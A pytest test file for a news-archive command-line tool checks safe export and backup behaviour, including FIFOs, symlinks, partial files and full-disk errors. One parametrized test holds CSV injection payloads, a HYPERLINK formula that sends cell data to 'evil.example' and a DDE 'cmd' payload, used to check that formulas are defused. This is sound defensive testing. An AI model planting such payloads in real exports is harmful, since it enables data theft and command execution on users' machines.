"""Where exports and backups write: a file complete or absent, FIFOs and devices never replaced, links refused."""

from __future__ import annotations

import csv
import io
import os
import resource
import sqlite3
import stat
import subprocess
import sys
import threading

import pytest
from click.testing import CliRunner

from newsarchive.cli import cli

from .conftest import REPO, newsarchive

SEED = "baolongan:vi:133682"


def invoke(*args: str):
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


def one_line_error(result, *words: str) -> None:
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith("Error: ") and result.stderr.count("\n") == 1, result.stderr
    for word in words:
        assert word in result.stderr


def test_export_writes_straight_to_a_fifo_and_a_device(crawled, tmp_path):
    db = str(crawled["db_path"])
    plain = invoke("export", "--db", db).stdout_bytes
    assert invoke("export", "--db", db, "-o", "-").stdout_bytes == plain
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    received: dict[str, bytes] = {}
    reader = threading.Thread(target=lambda: received.update(data=fifo.read_bytes()), daemon=True)
    reader.start()
    assert invoke("export", "--db", db, "-o", str(fifo)).exit_code == 0
    reader.join(10)
    assert received.get("data") == plain
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    device = tmp_path / "null"
    try:
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # /dev/null's numbers
    except PermissionError:
        pass  # not allowed to make device nodes here: the FIFO stands for them
    else:
        assert invoke("export", "--db", db, "-o", str(device)).exit_code == 0
        assert stat.S_ISCHR(os.lstat(device).st_mode)
    assert not list(tmp_path.glob("*.part"))
    # /dev/stdout is a link to this: the pipe the output goes to, written straight (never /proc/self/fd/1.part).
    piped = newsarchive("export", "--db", db, "-o", "/proc/self/fd/1")
    assert piped.stdout.encode("utf-8") == plain


def test_export_refuses_to_replace_a_symlink_target(crawled, tmp_path):
    real = tmp_path / "kept.jsonl"
    real.write_text("mine\n")
    link = tmp_path / "link.jsonl"
    link.symlink_to(real)
    result = invoke("export", "--db", str(crawled["db_path"]), "-o", str(link))
    one_line_error(result, "symbolic link", str(real))
    assert link.is_symlink() and real.read_text() == "mine\n"
    backup = invoke("backup", str(link), "--db", str(crawled["db_path"]))
    one_line_error(backup, str(link))
    assert real.read_text() == "mine\n"


def test_missing_directory_is_one_line(crawled, tmp_path):
    db = str(crawled["db_path"])
    missing = tmp_path / "nonexistent" / "dir"
    one_line_error(
        invoke("export", "--db", db, "-o", str(missing / "x.jsonl")), str(missing), "does not exist"
    )
    one_line_error(invoke("backup", str(missing / "x.db"), "--db", db), str(missing), "does not exist")
    assert not (tmp_path / "nonexistent").exists()


def test_leftover_part_files_are_replaced(crawled, tmp_path):
    db = str(crawled["db_path"])
    out, copy = tmp_path / "x.jsonl", tmp_path / "copy.db"
    for path in (out, copy):
        path.with_name(path.name + ".part").write_bytes(b"SQLite format 3\x00 half of a killed run")
    assert invoke("export", "--db", db, "-o", str(out)).exit_code == 0
    assert out.read_bytes() == invoke("export", "--db", db).stdout_bytes
    assert invoke("backup", str(copy), "--db", db).exit_code == 0
    with sqlite3.connect(copy) as conn:
        assert conn.execute("pragma integrity_check").fetchone()[0] == "ok"
        assert conn.execute("select count(*) from articles").fetchone()[0] > 100
    assert not list(tmp_path.glob("*.part"))


def test_bad_search_and_far_dates(crawled):
    db = str(crawled["db_path"])
    one_line_error(invoke("export", "--db", db, "--search", "a AND"), "--search 'a AND'", "syntax error")
    until = invoke("export", "--db", db, "--fields", "key", "--until", "9999-12-31")
    assert until.exit_code == 0
    dated = invoke("export", "--db", db, "--fields", "key", "--since", "0001-01-01").stdout
    assert until.stdout == dated and len(dated.splitlines()) > 100  # every dated article


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Bấm vào đây")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
    ],
)
def test_csv_for_spreadsheets_defuses_formulas(scratch_db, cell):
    with sqlite3.connect(scratch_db) as conn:
        conn.execute("update articles set title = ?, lead = 'Cần Đước' where key = ?", [cell, SEED])

    def rows(*extra: str) -> dict[str, dict[str, str]]:
        result = invoke("export", "--db", str(scratch_db), "--format", "csv", "--lang", "vi", *extra)
        text = result.stdout_bytes.decode("utf-8-sig")
        return {row["key"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}

    spreadsheet = rows("--bom")
    assert spreadsheet[SEED]["title"] == "'" + cell
    assert spreadsheet[SEED]["lead"] == "Cần Đước"
    assert rows()[SEED]["title"] == cell  # plain CSV for programs keeps the data as stored
    assert "formula" in invoke("export", "--help").stdout


def test_a_full_disk_is_one_line_and_leaves_no_file(crawled, tmp_path):
    """RLIMIT_FSIZE stands for a full disk: writes past 64 KB fail (Python ignores SIGXFSZ)."""

    def small_disk() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (64 * 1024, 64 * 1024))

    db = str(crawled["db_path"])
    for args, path in (
        (["export", "--db", db, "-o"], tmp_path / "x.jsonl"),
        (["backup", "--db", db], tmp_path / "copy.db"),
    ):
        done = subprocess.run(
            [sys.executable, "-m", "newsarchive", *args, str(path)],
            capture_output=True,
            text=True,
            cwd=REPO,
            preexec_fn=small_disk,
            timeout=120,
        )
        assert done.returncode == 1, done.stderr
        last = done.stderr.strip().splitlines()[-1]
        assert last.startswith(f"Error: {args[0]} to {path} failed") and "Traceback" not in done.stderr
        assert not path.exists() and not list(tmp_path.glob("*.part*"))
